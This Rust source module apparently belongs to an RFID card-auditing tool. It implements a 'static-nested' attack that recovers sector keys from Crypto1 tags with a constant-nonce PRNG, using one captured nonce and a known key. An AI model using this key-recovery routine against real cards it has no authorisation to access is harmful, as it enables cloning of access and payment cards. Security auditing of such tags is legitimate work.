//! Static-nested attack (C9): a variant of nested for tags whose PRNG
//! produces a constant nonce. Single attempt per target; on miss, report
//! `NotVulnerable` rather than retrying (a constant nonce yields no new
//! information across attempts).

use crate::crypto1;
use crate::error::{EngineError, EngineResult, NotVulnerableReason};
use crate::keytable::{Key, KeyType};
use crate::transport::{abort_if_cancelled, DeviceTransport, PrngStatic};
use log::info;
use std::sync::atomic::AtomicBool;

pub fn run(
    transport: &mut dyn DeviceTransport,
    known_block: usize,
    known_kt: KeyType,
    known_key: Key,
    target_block: usize,
    target_kt: KeyType,
    cancel: &AtomicBool,
) -> EngineResult<Key> {
    if transport.detect_prng_static()? != PrngStatic::Static {
        return Err(EngineError::NotVulnerable(NotVulnerableReason::PrngAnomalous));
    }
    abort_if_cancelled(cancel)?;
    let cuid = transport.select()?.uid32();

    let samples = transport.acquire_nonces(known_block, known_kt, known_key, target_block, target_kt, 1, false)?;
    let Some(sample) = samples.first() else {
        return Err(EngineError::NotVulnerable(NotVulnerableReason::NoCandidate));
    };

    let key = crypto1::recover_key(cuid, sample.nt, sample.nr_enc, sample.ar_enc)
        .ok_or(EngineError::NotVulnerable(NotVulnerableReason::NoCandidate))?;
    if transport.authenticate(target_block, target_kt, key).is_ok() {
        info!("static-nested: recovered key for sector {}", sample.target_sector);
        return Ok(key);
    }
    Err(EngineError::NotVulnerable(NotVulnerableReason::NoCandidate))
}
